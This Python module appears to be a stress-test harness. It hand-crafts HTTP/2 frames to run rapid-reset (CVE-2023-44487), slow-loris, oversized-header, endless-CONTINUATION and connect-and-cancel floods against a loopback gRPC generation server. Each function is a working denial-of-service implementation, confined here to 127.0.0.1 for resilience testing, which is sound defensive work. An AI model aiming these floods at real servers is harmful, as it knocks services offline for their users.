"""What attackers do to an HTTP/2 server, in frames made by hand. Only servers on this machine are reached.

Each function runs for some seconds in a process of its own and returns what it counted. They read nothing
of what comes back but whether the connection is there.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
GIVEN_UP = struct.pack(">I", 8)  # CANCEL
# GenerateRequest{text: "x", max_tokens: 60000}, in gRPC's frame.
ENDLESS_TURN = b"\x00\x00\x00\x00\x07\x22\x01x\x50\xe0\xd4\x03"
LAST_STREAM = 2**31 - 1
FRAME_BYTES_MAX = 16384


@dataclass(frozen=True)
class Target:
    """A server on the loopback."""

    port: int
    ca_file: Path | None  # None: plaintext
    token: str

    def connect(self, protocol: str = "h2") -> socket.socket:
        plain = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.ca_file is None:
            return plain
        context = ssl.create_default_context(cafile=self.ca_file)
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(plain, server_hostname="localhost")

    def request(self, *more: tuple[str, str]) -> list[tuple[str, str]]:
        """The headers of a turn that would be taken."""
        return [
            (":method", "POST"),
            (":scheme", "http" if self.ca_file is None else "https"),
            (":path", "/ssmd.v1.GenerationService/Generate"),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("authorization", f"Bearer {self.token}"),
            *more,
        ]


@dataclass
class Counts:
    connections: int = 0
    refused: int = 0  # connections that were not made, or not to the end
    closed: int = 0  # by the server
    sent: int = 0  # of whatever the attack is made of
    longest_seconds: float = 0.0  # that one connection was let be

    def add(self, other: Counts) -> None:
        self.connections += other.connections
        self.refused += other.refused
        self.closed += other.closed
        self.sent += other.sent
        self.longest_seconds = max(self.longest_seconds, other.longest_seconds)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(headers: list[tuple[str, str]]) -> bytes:
    """Headers that refer to nothing that was sent before: every stream can have the same bytes."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in headers]))


def split(headers: bytes, stream: int) -> bytes:
    """A header block as one frame of headers and as many continuations as it takes."""
    pieces = [headers[at : at + FRAME_BYTES_MAX] for at in range(0, len(headers), FRAME_BYTES_MAX)]
    frames = b""
    for number, piece in enumerate(pieces):
        flags = END_HEADERS if number == len(pieces) - 1 else 0
        frames += frame(HEADERS if number == 0 else CONTINUATION, flags, stream, piece)
    return frames


def turn(headers: bytes, stream: int) -> bytes:
    """A whole call."""
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(
        DATA, END_STREAM, stream, ENDLESS_TURN
    )


@dataclass
class Connection:
    """One connection that is attacked over, until the server ends it."""

    target: Target
    counts: Counts
    began: float = field(default_factory=time.monotonic)

    def __post_init__(self) -> None:
        self.socket = self.target.connect()
        self.counts.connections += 1
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data: bytes) -> None:
        """Raises OSError when the server has had enough."""
        self.socket.sendall(data)
        self.drop_input()

    def drop_input(self) -> None:
        pending = isinstance(self.socket, ssl.SSLSocket) and self.socket.pending() > 0
        while pending or select.select([self.socket], [], [], 0)[0]:
            if not self.socket.recv(1 << 16):
                raise ConnectionResetError
            pending = isinstance(self.socket, ssl.SSLSocket) and self.socket.pending() > 0

    def close(self) -> None:
        self.counts.longest_seconds = max(
            self.counts.longest_seconds, time.monotonic() - self.began
        )
        self.socket.close()


@contextlib.contextmanager
def attacked(target: Target, counts: Counts) -> Iterator[Connection | None]:
    """A connection; None where none is to be had. That the server ends it is no error."""
    try:
        connection = Connection(target, counts)
    except OSError:
        counts.refused += 1
        time.sleep(0.01)
        yield None
        return
    try:
        yield connection
    except OSError:
        counts.closed += 1
    finally:
        connection.close()


def rapid_reset(target: Target, seconds: float) -> Counts:
    """Requests that are reset at once (CVE-2023-44487), a hundred at a time."""
    counts, end = Counts(), time.monotonic() + seconds
    headers = block(target.request())
    while time.monotonic() < end:
        with attacked(target, counts) as connection:
            stream = 1
            while connection and time.monotonic() < end and stream < LAST_STREAM - 200:
                batch = b"".join(
                    turn(headers, one) + frame(RST_STREAM, 0, one, GIVEN_UP)
                    for one in range(stream, stream + 200, 2)
                )
                connection.send(batch)
                counts.sent += 100
                stream += 200
    return counts


def slow_loris(target: Target, seconds: float) -> Counts:
    """Some hundred connections whose headers come a byte at a time and never end."""
    counts, end = Counts(), time.monotonic() + seconds
    open_now: list[Connection] = []
    headers = block(target.request())
    while time.monotonic() < end:
        while len(open_now) < 200 and time.monotonic() < end:
            try:
                connection = Connection(target, counts)
                connection.send(frame(HEADERS, 0, 1, headers[:20]))
                open_now.append(connection)
            except OSError:
                counts.refused += 1
                break
        for connection in list(open_now):
            try:
                connection.send(frame(CONTINUATION, 0, 1, b"\x00"))
                counts.sent += 1
            except OSError:
                counts.closed += 1
                connection.close()
                open_now.remove(connection)
        time.sleep(0.2)
    for connection in open_now:
        connection.close()
    return counts


def oversized_headers(target: Target, seconds: float) -> Counts:
    """Requests with header blocks of 256 KiB."""
    counts, end = Counts(), time.monotonic() + seconds
    large = block(target.request(*((f"x-{number}", "x" * 4000) for number in range(64))))
    while time.monotonic() < end:
        with attacked(target, counts) as connection:
            for stream in range(1, 200, 2):
                if connection is None or time.monotonic() > end:
                    break
                connection.send(split(large, stream))
                counts.sent += 1
    return counts


def endless_headers(target: Target, seconds: float) -> Counts:
    """Header blocks that go on for as long as the connection does, of many small headers."""
    counts, end = Counts(), time.monotonic() + seconds
    piece = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000)
    while time.monotonic() < end:
        with attacked(target, counts) as connection:
            if connection is not None:
                connection.send(frame(HEADERS, 0, 1, block(target.request())))
            while connection is not None and time.monotonic() < end:
                connection.send(piece)
                counts.sent += 1
    return counts


def connect_and_cancel(target: Target, seconds: float) -> Counts:
    """Connections, a turn on each, which is given up at once with its connection."""
    counts, end = Counts(), time.monotonic() + seconds
    headers = block(target.request())
    while time.monotonic() < end:
        with attacked(target, counts) as connection:
            if connection is not None:
                connection.send(turn(headers, 1) + frame(RST_STREAM, 0, 1, GIVEN_UP))
                counts.sent += 1
    return counts


ATTACKS: dict[str, Callable[[Target, float], Counts]] = {
    "rapid reset": rapid_reset,
    "slow loris": slow_loris,
    "oversized headers": oversized_headers,
    "endless headers": endless_headers,
    "connect and cancel": connect_and_cancel,
}
